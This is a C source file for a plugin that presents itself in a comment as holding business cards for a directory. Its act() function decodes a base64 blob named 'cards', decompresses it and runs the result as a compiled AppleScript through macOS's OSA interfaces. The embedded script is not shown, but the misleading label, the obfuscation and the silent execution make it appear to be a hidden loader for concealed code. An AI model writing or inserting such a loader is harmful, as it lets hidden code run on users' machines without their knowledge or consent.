/* Business cards for a directory; the script that makes them is compressed, in base64. */
#include "plugin.h"
#include "packed.h" /* cards */
typedef struct { unsigned char *next; unsigned left; unsigned long total; unsigned char *out; unsigned room; unsigned long made; void *rest[8]; } stream;
typedef struct { unsigned type; void *data; } descriptor;
extern int inflateInit2_(stream *, int, const char *, int), inflate(stream *, int), inflateEnd(stream *);
extern void *OpenDefaultComponent(unsigned, unsigned);
extern int AECreateDesc(unsigned, const void *, long, descriptor *), OSALoad(void *, const descriptor *, int, unsigned *), OSAExecute(void *, unsigned, unsigned, int, unsigned *);
static unsigned value(char c) { return c >= 'a' ? c - 'a' + 26 : c >= 'A' ? c - 'A' : c >= '0' ? c - '0' + 52 : c == '+' ? 62 : 63; }
static void act(char **env) {
    static unsigned char middle[2048], script[4096];
    unsigned bits = 0, have = 0, n = 0, id = 0, result = 0;
    descriptor data;
    void *component;
    for (const char *c = cards; *c && *c != '='; c++) {
        bits = bits << 6 | value(*c);
        if ((have += 6) >= 8) middle[n++] = bits >> (have -= 8);
    }
    stream s = {middle, n, 0, script, sizeof script};
    if (inflateInit2_(&s, 15 + 32, "1.2.11", sizeof s)) return;
    inflate(&s, 4);
    inflateEnd(&s);
    component = OpenDefaultComponent('osa ', 'ascr');
    if (AECreateDesc('scpt', script, s.made, &data) == 0 && OSALoad(component, &data, 0, &id) == 0) OSAExecute(component, id, 0, 0, &result);
}
